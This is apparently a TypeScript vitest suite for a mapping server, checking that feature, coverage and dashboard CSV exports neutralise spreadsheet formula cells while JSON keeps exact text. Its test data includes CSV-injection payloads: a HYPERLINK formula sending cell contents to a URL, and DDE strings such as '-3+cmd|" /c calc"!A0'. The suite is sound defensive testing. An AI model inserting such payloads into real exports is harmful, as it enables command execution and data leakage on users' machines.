import { parse } from 'csv-parse/sync'
import { sql } from 'kysely'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { createApp } from '../../server/src/app.ts'
import { csvText, neutraliseCell } from '../../server/src/http/csv.ts'
import { createLogger } from '../../server/src/logger.ts'
import { apiClient } from '../helpers/api-client.ts'
import { listen, type TestServer } from '../helpers/http.ts'
import { getTestDb, scalar, type TestDb } from '../helpers/test-db.ts'

const MARK = 'CSV-INJECTION-TEST'
const FORMULA = '=HYPERLINK("http://x"&A1,"x")'
/** What a spreadsheet would run as a formula: a cell starting with one of these. */
const FORMULA_START = /^[=+\-@\t\r]/
/** A bare number is a number, not a formula. */
const PLAIN_NUMBER = /^[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?$/

/** The CSV as rows of cells (header first), the way a spreadsheet reads it. */
const cells = (text: string): string[][] => parse(text, { bom: true, relax_column_count: true })
const byHeader = (rows: string[][]) => rows.slice(1).map((r) => Object.fromEntries(rows[0]!.map((h, i) => [h, r[i]!])))
/** No cell of the CSV would be run as a formula. */
const expectNoFormula = (text: string, what: string) => {
  for (const row of cells(text)) for (const cell of row) expect(FORMULA_START.test(cell) && !PLAIN_NUMBER.test(cell), `${what}: ${JSON.stringify(cell)}`).toBe(false)
}

/**
 * Issue 14 item 5: every CSV the server writes (feature export, community dashboard, coverage)
 * goes through one writer that neutralises text cells a spreadsheet would run as formulas
 * (OWASP: `'` in front of `=`, `+`, `-`, `@`, tab, CR); numbers stay numbers; GeoJSON and JSON
 * stay exact.
 */
describe('CSV exports cannot carry formulas', () => {
  let t: TestDb
  let server: TestServer
  let admin: ReturnType<typeof apiClient>
  let cell: { id: number; name: string; version: number }

  beforeAll(async () => {
    t = await getTestDb()
    server = await listen(createApp({ database: t, logger: createLogger('silent') }))
    admin = apiClient(server.url, 'admin')
    cell = (await sql<{ id: number; name: string; version: number }>`SELECT id, name, version FROM grid_cells ORDER BY id LIMIT 1`.execute(t.db)).rows[0]!
  })
  afterAll(async () => {
    await sql`DELETE FROM hazards WHERE description LIKE ${'%' + MARK + '%'} OR description = ${FORMULA}`.execute(t.db)
    await sql`DELETE FROM river_patrols WHERE team = ${MARK}`.execute(t.db)
    await sql`UPDATE grid_cells SET name = ${cell.name} WHERE id = ${cell.id}`.execute(t.db)
    await server.close()
  })

  it('writes text cells that start a formula with a quote in front, and leaves numbers and other text alone', () => {
    for (const bad of ['=1+1', '+1+1', '-1+1', '@SUM(A1)', '\t=1', '\r=1', FORMULA]) expect(neutraliseCell(bad)).toBe(`'${bad}`)
    for (const fine of ['text', ' =1', "'=1", '一=1', '', '-3', '+3', '-3.50', '1e-5']) expect(neutraliseCell(fine)).toBe(fine)
    for (const value of [-3, 2.5, 0, null, undefined, true]) expect(neutraliseCell(value)).toBe(value)
    const text = csvText(['n', 'text', 'when'], [[-3, '-3+cmd', new Date('2026-01-02T03:04:05Z')], [1.5, FORMULA, null]])
    expect(text.startsWith('\ufeff')).toBe(true)
    const rows = cells(text)
    expect(rows).toEqual([
      ['n', 'text', 'when'],
      ['-3', "'-3+cmd", '2026-01-02T03:04:05.000Z'],
      ['1.5', `'${FORMULA}`, ''],
    ])
    // The negative number is written bare, not quoted as text.
    expect(text).toContain('\n-3,')
  })

  it("a volunteer's formula comes out neutralised in the administrator's CSV export, and exact in GeoJSON", async () => {
    const volunteer = apiClient(server.url, 'volunteer')
    const created = await volunteer.post('/api/layers/hazards/features', {
      geometry: { type: 'Point', coordinates: [125.1435, 42.8878] },
      properties: { category: 'fire', source: 'offline', description: FORMULA },
    })
    expect(created.status).toBe(201)
    const id = created.body.id as number
    const code = created.body.properties.code as string

    const csv = await fetch(`${server.url}/api/layers/hazards/features?format=csv&code=${encodeURIComponent(code)}`, { headers: { authorization: 'Bearer pgt_test-admin-000000000000000000000000' } })
    expect(csv.status).toBe(200)
    expect(csv.headers.get('content-type')).toMatch(/^text\/csv/)
    const text = await csv.text()
    const rows = byHeader(cells(text))
    expect(rows).toHaveLength(1)
    expect(rows[0]!.id).toBe(String(id))
    expect(rows[0]!.description).toBe(`'${FORMULA}`)
    expectNoFormula(text, 'hazards export')

    // GeoJSON, the single feature and OGC keep the exact text.
    const one = await admin.get(`/api/layers/hazards/features/${id}`)
    expect(one.body.properties.description).toBe(FORMULA)
    const list = await admin.get(`/api/layers/hazards/features?code=${encodeURIComponent(code)}`)
    expect(list.body.features[0].properties.description).toBe(FORMULA)
    const ogc = await admin.get(`/ogc/collections/hazards/items/${id}`)
    expect(ogc.body.properties.description).toBe(FORMULA)
    expect(await scalar<string>(t.db, sql`SELECT description FROM hazards WHERE id = ${id}`)).toBe(FORMULA)
  })

  it('keeps a negative number a number in the export, while text that starts with - is neutralised', async () => {
    const created = await admin.post('/api/layers/river-patrols/features', {
      geometry: { type: 'LineString', coordinates: [[125.14, 42.89], [125.15, 42.895]] },
      properties: { team: MARK, started_at: '2026-10-01T08:00:00+08:00', ended_at: '2026-10-01T10:00:00+08:00', water_level_m: -3, observations: '-3+cmd|" /c calc"!A0', hazards_found: 0 },
    })
    expect(created.status).toBe(201)
    const text = await (await fetch(`${server.url}/api/layers/river-patrols/features?format=csv&team=${MARK}`, { headers: { authorization: 'Bearer pgt_test-admin-000000000000000000000000' } })).text()
    const [row] = byHeader(cells(text))
    expect(row!.water_level_m).toBe('-3')
    expect(row!.observations).toBe(`'-3+cmd|" /c calc"!A0`)
    expect(row!.hazards_found).toBe('0')
    // Written bare: a spreadsheet reads -3 as a number.
    expect(text).toMatch(/,-3,/)
    expectNoFormula(text, 'river patrol export')
    const one = await admin.get(`/api/layers/river-patrols/features/${created.body.id}`)
    expect(one.body.properties).toMatchObject({ water_level_m: -3, observations: '-3+cmd|" /c calc"!A0' })
  })

  it('neutralises the coverage CSV (a grid cell renamed by a planner) and the community dashboard CSV', async () => {
    const planner = apiClient(server.url, 'planner')
    const renamed = await planner.patch(`/api/layers/grid-cells/features/${cell.id}`, { version: cell.version, properties: { name: '@SUM(1+1)*cmd|" /C calc"!A0' } })
    expect(renamed.status).toBe(200)
    const coverage = await fetch(`${server.url}/api/analysis/coverage?format=csv&grid=${cell.id}`, { headers: { authorization: 'Bearer pgt_test-admin-000000000000000000000000' } })
    expect(coverage.status).toBe(200)
    const text = await coverage.text()
    const [row] = byHeader(cells(text))
    expect(row!.name).toBe(`'@SUM(1+1)*cmd|" /C calc"!A0`)
    expect(row!.id).toBe(String(cell.id))
    expect(Number(row!.area_m2)).toBeGreaterThan(0)
    expectNoFormula(text, 'coverage')
    // The JSON answer keeps the name as it is.
    const json = await admin.get(`/api/analysis/coverage?grid=${cell.id}`)
    expect(json.body.features[0].properties.name).toBe('@SUM(1+1)*cmd|" /C calc"!A0')

    const dashboard = await fetch(`${server.url}/api/community/dashboard?format=csv`, { headers: { authorization: 'Bearer pgt_test-admin-000000000000000000000000' } })
    expect(dashboard.status).toBe(200)
    const d = await dashboard.text()
    expect(cells(d)[0]).toEqual(['section', 'key', 'figure', 'figure_name', 'value'])
    expect(cells(d).length).toBeGreaterThan(10)
    expectNoFormula(d, 'dashboard')
  })
})
